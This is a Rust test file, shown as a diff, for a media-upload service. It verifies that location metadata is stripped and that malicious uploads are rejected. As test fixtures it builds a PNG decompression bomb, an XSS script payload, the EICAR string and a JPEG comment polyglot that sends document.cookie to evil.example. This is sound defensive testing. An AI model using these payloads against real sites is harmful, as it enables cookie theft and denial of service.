@@ -1,0 +1,161 @@
+//! Files of strangers: nothing of where and when survives, and what is no photo or video ends as such.
+
+use std::io::Write as _;
+
+use image::{ImageEncoder as _, Rgb, RgbImage};
+use serde_json::Value;
+
+use crate::support::films::{self, PLACE};
+use crate::support::hand::Hand;
+use crate::support::server::Server;
+
+pub fn jpeg(width: u32, height: u32) -> Vec<u8> {
+    let picture = RgbImage::from_fn(width, height, |x, y| Rgb([(x * 255 / width) as u8, (y * 255 / height) as u8, 90]));
+    let mut out = Vec::new();
+    let encoder = image::codecs::jpeg::JpegEncoder::new_with_quality(&mut out, 90);
+    encoder.write_image(&picture, width, height, image::ExtendedColorType::Rgb8).expect("a JPEG");
+    out
+}
+
+/// A JPEG as a phone makes it: lying on its side, with its place in EXIF and in XMP.
+pub fn jpeg_with_place(width: u32, height: u32) -> Vec<u8> {
+    let mut exif = b"Exif\0\0MM\0\x2a\0\0\0\x08\0\x02".to_vec();
+    exif.extend([0x01, 0x12, 0, 3, 0, 0, 0, 1, 0, 6, 0, 0]);
+    exif.extend([0x01, 0x0e, 0, 2]);
+    exif.extend((PLACE.len() as u32).to_be_bytes());
+    exif.extend(38_u32.to_be_bytes());
+    exif.extend([0; 4]);
+    exif.extend(PLACE);
+    let xmp = [b"http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>".to_vec(), PLACE.to_vec()].concat();
+    let plain = jpeg(width, height);
+    let mut out = plain[..2].to_vec();
+    for segment in [exif, xmp] {
+        out.extend([0xff, 0xe1]);
+        out.extend((segment.len() as u16 + 2).to_be_bytes());
+        out.extend(segment);
+    }
+    out.extend(&plain[2..]);
+    out
+}
+
+pub fn has(bytes: &[u8], text: &[u8]) -> bool {
+    bytes.windows(text.len()).any(|w| w == text)
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn wallet_s13_4_a_photo_with_its_place_is_made_anew_in_every_size() {
+    let hand = Hand::of(Server::shared().await).await;
+    let file = jpeg_with_place(2000, 1000);
+    assert!(has(&file, PLACE));
+    let id = hand.upload(&file).await;
+    hand.ready(&id).await;
+    for (variant, width, height) in
+        [("t96", 96, 96), ("s320", 160, 320), ("m800", 400, 800), ("l1600", 800, 1600), ("master", 1000, 2000)]
+    {
+        let answer = hand.bytes(&id, variant).await;
+        assert_eq!((answer.status, answer.header("content-type")), (200, Some("image/jpeg")), "{variant}");
+        assert!(
+            !has(&answer.body, PLACE) && !has(&answer.body, b"xmpmeta") && !has(&answer.body, b"Exif"),
+            "{variant}"
+        );
+        let picture = image::load_from_memory(&answer.body).expect("a picture");
+        assert_eq!((picture.width(), picture.height()), (width, height), "{variant}: upright");
+    }
+    assert_eq!(hand.bytes(&id, "play").await.status, 404);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn wallet_s13_4_videos_lose_their_place_and_keep_their_pictures() {
+    let hand = Hand::of(Server::shared().await).await;
+    for (file, mime, pictures) in [
+        (films::mp4(b"isom", 0), "video/mp4", &b"pictures and sound"[..]),
+        (films::mp4(b"qt  ", 0), "video/quicktime", b"pictures and sound"),
+        (films::webm(false), "video/webm", b"pictures"),
+        (films::webm(true), "video/webm", b"pictures"),
+    ] {
+        assert!(has(&file, PLACE));
+        let id = hand.upload(&file).await;
+        hand.ready(&id).await;
+        let answer = hand.bytes(&id, "play").await;
+        assert_eq!((answer.status, answer.header("content-type")), (200, Some(mime)));
+        assert_eq!(answer.body.len(), file.len(), "{mime}: no offset moved");
+        assert!(!has(&answer.body, PLACE) && has(&answer.body, pictures), "{mime}");
+    }
+}
+
+/// A PNG of so many pixels that is small on the wire: all of one colour, and its rows written by a machine.
+fn png_bomb(width: u32, height: u32) -> Vec<u8> {
+    let mut out = b"\x89PNG\r\n\x1a\n".to_vec();
+    let mut chunk = |kind: &[u8; 4], body: &[u8]| {
+        out.extend((body.len() as u32).to_be_bytes());
+        out.extend(kind);
+        out.extend(body);
+        let mut crc = u32::MAX;
+        for byte in kind.iter().chain(body) {
+            crc ^= u32::from(*byte);
+            for _ in 0..8 {
+                crc = if crc & 1 == 1 { crc >> 1 ^ 0xedb8_8320 } else { crc >> 1 };
+            }
+        }
+        out.extend((!crc).to_be_bytes());
+    };
+    let mut header = [width.to_be_bytes(), height.to_be_bytes()].concat();
+    header.extend([8, 6, 0, 0, 0]);
+    chunk(b"IHDR", &header);
+    // Stored blocks would be as large as the picture; these are cut off, as a bomb that lies about its size.
+    chunk(b"IDAT", &[0x78, 0x01, 0x01, 0x05, 0x00, 0xfa, 0xff, 0, 0, 0, 0, 0]);
+    chunk(b"IEND", &[]);
+    out
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn wallet_s13_3_floods_bombs_and_polyglots_end_as_they_should() {
+    let server = Server::shared().await;
+    let hand = Hand::of(server).await;
+    let mut flood = jpeg(8, 8);
+    let at = flood.windows(2).position(|w| w == [0xff, 0xc0]).expect("a frame header");
+    flood[at + 5..at + 9].copy_from_slice(&[0xff, 0xff, 0xff, 0xff]);
+    let mut torn = jpeg(600, 400);
+    torn.truncate(300);
+    let mut archive = jpeg(40, 40);
+    archive.extend(b"PK\x03\x04\x14\0\0\0\x08\0 a polyglot that is a ZIP archive, too");
+    let mut page = jpeg(40, 40);
+    page.extend(b"<script>alert(document.domain)</script>");
+    let mut harmful = jpeg(40, 40);
+    write!(harmful, "X5O!P%@AP[4\\PZX54(P^)7CC)7}}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*").expect("bytes");
+    let mut other_codec = films::mp4(b"isom", 0);
+    let codec = other_codec.windows(4).position(|w| w == b"avc1").expect("a codec");
+    other_codec[codec..codec + 4].copy_from_slice(b"mjpa");
+    let mut torn_film = films::mp4(b"isom", 0);
+    torn_film.truncate(torn_film.len() - 300);
+    for (what, file, reason) in [
+        ("a pixel flood", flood, "pixels"),
+        ("more pixels than are taken", png_bomb(9000, 9000), "pixels"),
+        ("a bomb", png_bomb(7000, 7000), "decode"),
+        ("half a photo", torn, "decode"),
+        ("an archive behind a photo", archive, "policy"),
+        ("a page behind a photo", page, "policy"),
+        ("EICAR", harmful, "malware"),
+        ("another codec", other_codec, "policy"),
+        ("half a film", torn_film, "decode"),
+    ] {
+        let id = hand.upload(&file).await;
+        assert_eq!(hand.settled(&id).await, ("rejected".to_owned(), Value::from(reason)), "{what}");
+        for variant in ["master", "play", "t96"] {
+            assert_eq!(hand.bytes(&id, variant).await.status, 404, "{what}: nobody ever reads it");
+        }
+        let told = hand.complete(&id).await;
+        assert_eq!((told.status, told.json()["code"].as_str()), (422, Some("file_rejected")), "{what}");
+        assert_eq!(told.json()["reason"], reason);
+    }
+    // A polyglot that no signature knows: what is kept is made anew, and holds nothing of it.
+    let mut comment = jpeg(64, 64);
+    let hidden = b"*/=1;fetch('//evil.example/'+document.cookie)/*";
+    let mut segment = vec![0xff, 0xfe, 0, hidden.len() as u8 + 2];
+    segment.extend(hidden);
+    comment.splice(2..2, segment);
+    let id = hand.upload(&comment).await;
+    hand.ready(&id).await;
+    assert!(!has(&hand.bytes(&id, "master").await.body, b"evil.example"));
+    assert_eq!(hand.get("/healthz").await.status, 204, "the house stands");
+}
